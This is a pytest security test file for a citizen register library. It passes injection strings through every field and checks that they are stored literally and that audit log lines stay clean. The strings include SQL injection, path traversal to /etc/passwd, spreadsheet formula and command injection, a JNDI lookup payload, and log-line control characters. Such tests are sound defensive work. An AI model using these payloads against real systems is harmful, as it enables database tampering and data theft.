"""SQL, paths, formulas and lines of a log in every text that somebody can give."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
from tests.register.conftest import Opener
from tests.register.people import KEYS, number, said, somebody

from civid.errors import CividError, FieldError
from civid.people.citizen import Source
from civid.register import Actor, Register

TEXTS = (
    "'; DROP TABLE persons; --",
    '" OR 1=1 --',
    "%' OR '1'='1",
    "Robert'); DELETE FROM audit;--",
    "../../../../etc/passwd",
    '=HYPERLINK("http://x/?"&A1;"x")',
    "+cmd' /C calc'!A0",  # with a | it is refused when the claim is made
    "@SUM(1+1)",
    "{{7*7}} ${jndi:ldap://x} %s %n {0}",
    "\\x00 \\u0000 \\n",
)
LINES = (
    "a\n2026-01-01 admin person.read done",
    "a\r\nb",
    "a\x1b[2Jb",
    "a\x00b",
    "a\u2028b",
    "a\u0085b",
    "a\u202eb",
)


@pytest.fixture
def register(opened: Opener) -> Register:
    register = opened(keys=KEYS)
    register.people.add(somebody(1), unit="46")
    return register


@pytest.mark.parametrize("text", TEXTS)
def test_texts_are_texts(register: Register, text: str) -> None:
    actor = Actor(text[:64], unit="46", scope=("",), purpose=text[:64], station=text[:64])
    own = register.acting_as(actor)
    made = own.people.add([said("name", text), said("number", number(2))], unit="46",
                          source=text[:64])  # fmt: skip
    assert own.people.get(made.reference).citizen.current("name") is not None
    assert own.people.get(made.reference).citizen.current("name").recorded_as == text  # type: ignore[union-attr]
    claim = said("permanent_residence", text, source=Source.RESIDENCE)
    own.people.record(made.reference, [claim], kind="correct")
    own.people.retract(made.reference, claim, text)
    for ask in (
        lambda: own.find(name=text),
        lambda: own.find(household=text),
        lambda: own.find(name="Nguyễn Thị An", birth=text),
        lambda: own.find(name="Nguyễn Thị An", after=text),
        lambda: own.person(text),
        lambda: own.people.get(text),
        lambda: own.audit.readers(text),
        lambda: own.protection.rotate(text),
        lambda: own.protection.set_rule(text, 5, text),
    ):
        _typed(ask)
    hold = own.protection.hold(made.reference, text)
    assert own.protection.holds(made.reference)[0].reason == text
    own.protection.release(hold.hold)
    found = json.loads(json.dumps(own.protection.export(made.reference)))
    assert found["acts"][0]["claims"][0]["value"] == text
    if text.isprintable():
        assert own.protection.erase(made.reference, basis=text).basis == text
    for entry in register.audit.entries():
        line = entry.canonical()
        assert line.isascii()
        assert line.isprintable()
    assert register.check().clean
    assert register.person(number(1)).version == 1


def _typed(ask: Callable[[], Any]) -> None:
    says = ""
    try:
        ask()
    except CividError as error:
        says = str(error)
    assert "DROP" not in says
    assert "passwd" not in says


@pytest.mark.parametrize("text", LINES)
def test_no_line_is_added_to_the_log(register: Register, text: str) -> None:
    for field in ("name", "unit", "purpose", "station"):
        with pytest.raises(FieldError):
            Actor(**{"name": "a", field: text})  # type: ignore[arg-type]
    with pytest.raises(FieldError):
        register.protection.erase(register.person(number(1)).reference, basis=text)
    with pytest.raises(FieldError):
        register.protection.set_rule("forms", 5, text)


UNITS = (
    *("", "../46", "46/../79", "46/..", ".", "/46", "46/", "46//1", "46 ", "46;", "4" * 65),
    *("46\n", "46'--", "46\\79", "46\x00", "４６"),
)


@pytest.mark.parametrize("unit", UNITS)
def test_units_are_codes(register: Register, unit: str) -> None:
    with pytest.raises(FieldError):
        register.people.add(somebody(3), unit=unit)
    with pytest.raises(FieldError):
        register.people.move(register.person(number(1)).reference, unit)


def test_texts_that_are_too_long(register: Register) -> None:
    """What does not fit is refused before the database refuses it."""
    for ask in (
        lambda: register.people.add(somebody(4), unit="46", source="x" * 65),
        lambda: register.people.record(
            register.person(number(1)).reference, [said("name", "An")], kind="x" * 17
        ),
    ):
        with pytest.raises(FieldError):
            ask()
